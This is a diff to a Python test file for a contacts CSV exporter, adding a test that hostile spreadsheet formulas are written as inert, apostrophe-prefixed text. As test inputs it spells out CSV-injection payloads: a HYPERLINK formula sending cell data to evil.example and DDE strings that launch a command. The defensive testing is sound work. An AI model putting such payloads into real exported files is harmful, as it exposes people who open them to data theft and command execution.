@@ -3,6 +3,7 @@ compiler reads it (tag, untag, re-tag, the latest change winning, one org only),
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import hashlib
 import hmac
@@ -12,7 +13,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 
 from tern.engines.duckdb import DuckDBEngine
-from tern.exports.files import normal_email, normal_phone, sha256
+from tern.exports.files import CsvWriter, inert, normal_email, normal_phone, sha256
 from tern.exports.webhook import signature
 from tern.parquet import CONTACTS_SCHEMA
 from tern.segments.compiler import effective_contacts
@@ -32,6 +33,21 @@ def test_audience_values_are_normalised_before_hashing() -> None:
     assert normal_phone("600 100 200", None) is None and normal_phone("", "PL") is None
     assert sha256("anna.nowak@example.com") == hashlib.sha256(b"anna.nowak@example.com").hexdigest()
     assert sha256(None) == ""
+
+
+def test_a_hostile_contacts_formula_reaches_a_csv_as_inert_text(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
+    path = tmp_path / "members.csv"
+    writer = CsvWriter(str(path))
+    writer.write(["contact_id", "first_name", "phone", "tags"], [
+        ["c1", hostile, "+48 600 100 200", ["@SUM(1+1)*cmd|' /C calc'!A0", "vip"]],
+        ["c2", "-2+3+cmd|' /C calc'!A0", "-12.5", None], ["c3", "\t=1+1", "(0)22 555 01 23", []],
+    ])  # fmt: skip
+    writer.close([])
+    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
+    assert rows[1] == ["c1", "'" + hostile, "+48 600 100 200", "'@SUM(1+1)*cmd|' /C calc'!A0; vip"]
+    assert rows[2] == ["c2", "'-2+3+cmd|' /C calc'!A0", "-12.5", ""] and rows[3] == ["c3", "'\t=1+1", "(0)22 555 01 23", ""]
+    assert [inert(t) for t in ("Anna", "+48600100200", "=1", "+1 (555) =1", "")] == ["Anna", "+48600100200", "'=1", "'+1 (555) =1", ""]
 
 
 def test_webhook_signature_is_hmac_sha256_of_the_body() -> None:
